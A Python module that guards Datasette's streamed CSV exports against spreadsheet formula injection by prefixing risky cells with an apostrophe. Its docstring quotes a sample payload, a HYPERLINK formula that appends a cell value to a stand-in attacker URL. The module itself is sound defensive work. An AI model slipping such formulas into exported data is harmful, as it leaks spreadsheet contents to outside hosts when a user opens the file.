"""Spreadsheet formula neutralisation for the CSV exports Datasette streams.

App and user names come from Google and Microsoft, and catalog values from a spreadsheet;
any of them can be `=HYPERLINK("https://evil.example/?"&A2,"Click")` or `@SUM(...)`. A
spreadsheet opening the export would run it. Following OWASP's advice, a cell that starts
with = + - @, a tab or a carriage return gets a leading apostrophe, so it arrives as text
(`'=1+1`); plain numbers such as -12 or +3.5 are left alone.

Datasette 0.65 writes CSV with the csv module, one write (one HTTP body chunk) per row, and
offers no hook for it, so CsvFormulaGuard rewrites the body as it streams. It does not rely
on one chunk being one row: it holds back text until a record is complete (an even number
of quote characters before a line end).
"""

from __future__ import annotations

import codecs
import csv
import io
import re

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralize_cell(cell: str) -> str:
    """A cell a spreadsheet will show as text, never evaluate."""
    if cell.startswith(TRIGGERS) and not NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def neutralize_csv(text: str) -> str:
    """Complete CSV records, rewritten with every cell neutralised (Datasette's dialect: excel, CRLF)."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in csv.reader(io.StringIO(text, newline="")):
        writer.writerow([neutralize_cell(cell) for cell in row])
    return out.getvalue()


def complete_records_end(text: str) -> int:
    """Where the last complete record of `text` ends (0 when none is complete yet)."""
    end = quotes = position = 0
    for line in text.splitlines(keepends=True):
        position += len(line)
        quotes += line.count('"')
        if line.endswith("\n") and quotes % 2 == 0:
            end = position
    return end


class CsvFormulaGuard:
    """Feed it the body chunks of a CSV response; it returns the neutralised bytes to send."""

    def __init__(self) -> None:
        self._decoder = codecs.getincrementaldecoder("utf-8")(errors="replace")
        self._pending = ""

    def feed(self, chunk: bytes, *, final: bool = False) -> bytes:
        text = self._pending + self._decoder.decode(chunk, final=final)
        end = len(text) if final else complete_records_end(text)
        self._pending = text[end:]
        return neutralize_csv(text[:end]).encode("utf-8") if end else b""
